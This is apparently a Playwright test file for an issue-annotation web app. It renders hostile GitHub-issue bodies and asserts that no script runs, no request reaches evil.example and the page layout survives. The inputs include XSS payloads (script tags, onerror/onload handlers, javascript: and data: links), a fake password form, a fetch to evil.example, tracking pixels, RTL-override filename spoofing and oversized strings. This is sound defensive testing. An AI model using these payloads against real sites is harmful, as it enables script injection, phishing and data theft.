using Microsoft.Playwright;
using Ptarmigan.Annotation;
using Xunit;

namespace Ptarmigan.Web.Tests;

/// <summary>Issues that want to do harm, in a real browser, wherever an issue is shown: nothing runs, nothing is asked of another server, nothing leaves its place.</summary>
public sealed class HostileIssueTests(Chromium chromium)
{
    private const string Evil = "https://evil.example";

    private static readonly string[] Bodies =
    [
        "<script>window.harmed = 1; fetch('https://evil.example/s')</script><img src=x onerror=\"window.harmed = 2\"><svg onload=\"window.harmed = 3\"><animate onbegin=\"window.harmed = 4\"></svg>",
        "![pixel](https://evil.example/pixel.gif) <img src=\"https://evil.example/p.png\" srcset=\"https://evil.example/q.png 2x\"> <video poster=\"https://evil.example/v.png\" src=\"https://evil.example/v.mp4\" autoplay></video> <link rel=preload href=\"https://evil.example/l.css\" as=style>",
        "[go](javascript:window.harmed=5) <a href=\"javascript:window.harmed=6\">there</a> <a href=\"data:text/html,<script>window.harmed=7</script>\">or there</a> [or here](vbscript:x)",
        "<style>body { display: none } @import url(https://evil.example/i.css);</style><div style=\"position:fixed;inset:0;background:url(https://evil.example/b.png)\">cover</div><base href=\"https://evil.example/\"><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
        "<form action=\"https://evil.example/f\"><input name=password autofocus><button>Sign in</button></form><iframe src=\"https://evil.example/frame\"></iframe><object data=\"https://evil.example/o\"></object>",
        "|a|b|c|\n|-|-|-|\n" + string.Concat(Enumerable.Repeat("|1|2|3|\n", 4000)),
        "The file is called safe\u202Etxt.exe, and \u2066`this\u2069` is not what it seems.\u200B",
        new string('x', 5 << 20),
        string.Concat(Enumerable.Repeat("> ", 30_000)) + "deep",
    ];

    [Fact]
    public async Task Neither_runs_nor_loads_nor_leaves_its_place_on_any_page()
    {
        await using var served = await ServedStudy.Start(study =>
        {
            for (var at = 0; at < Bodies.Length; at++) study.AddIssue("a/b", at + 1).Says($"Hostile \u202E {at} <script>window.harmed = 8</script>", Bodies[at]).Labeled("<img src=x onerror=window.harmed=9>").Comment(Bodies[at].Length > 100_000 ? "long" : Bodies[at]);
        });
        var round = MadeUpRounds.Open(served.Study, "<b>one</b>", Question.Ptm, Bodies.Length, 1, "ann");
        var page = await chromium.Open(served.Address);
        var outside = new List<string>();
        page.Request += (_, request) => { if (request.Url.StartsWith(Evil, StringComparison.Ordinal)) outside.Add(request.Url); };
        page.Dialog += (_, dialog) => outside.Add(dialog.Message);

        foreach (var address in Enumerable.Range(1, Bodies.Length).Select(number => $"/issues/a/b/{number}").Concat(["/issues", "/", "/rounds"]))
        {
            await page.GotoAsync(address);
            await Check(address);
        }

        await page.GotoAsync($"/rounds/{round.Id}/annotate");
        for (var at = 0; at < Bodies.Length; at++)
        {
            await page.Locator($"[data-position='{at}']").WaitForAsync(new() { Timeout = 60_000 });
            await Check($"annotate {at}");
            await page.Keyboard.PressAsync("2");
        }

        await page.GetByRole(AriaRole.Heading, new() { Name = "Everything is answered" }).WaitForAsync();

        async Task Check(string where)
        {
            foreach (var link in await page.Locator("main article a[href]").AllAsync())
                Assert.Matches("^(https?|mailto):|^/", await link.GetAttributeAsync("href") ?? "");
            Assert.Null(await page.EvaluateAsync<object?>("window.harmed ?? null"));
            Assert.Empty(outside);
            Assert.Equal(0, await page.Locator("main article :is(script, svg, img, iframe, object, form, style, link, meta, base, video)").CountAsync());
            Assert.True(await page.Locator("main h1").First.IsVisibleAsync(), where);
            Assert.True(await page.EvaluateAsync<bool>("document.documentElement.scrollWidth <= innerWidth"), where + " is too wide");
            Assert.DoesNotContain('\u202E', await page.Locator("main").InnerTextAsync());
        }
    }

    [Fact]
    public async Task An_issue_without_its_text_has_a_name_and_leads_to_github()
    {
        await using var served = await ServedStudy.Start(study => study.AddIssue("a/b", 7).Says("", null));
        var round = MadeUpRounds.Open(served.Study, "one", Question.Ptm, 1, 1, "ann");
        var page = await chromium.Open(served.Address);
        await page.GotoAsync("/issues");

        await page.GetByRole(AriaRole.Link, new() { Name = "Issue 7, without its text" }).ClickAsync();
        await page.GetByRole(AriaRole.Heading, new() { Name = "Issue 7, without its text" }).WaitForAsync();
        await page.GotoAsync($"/rounds/{round.Id}/annotate");

        Assert.Equal("https://github.com/a/b/issues/7", await page.GetByRole(AriaRole.Link, new() { Name = "Read it on GitHub" }).GetAttributeAsync("href"));
    }
}
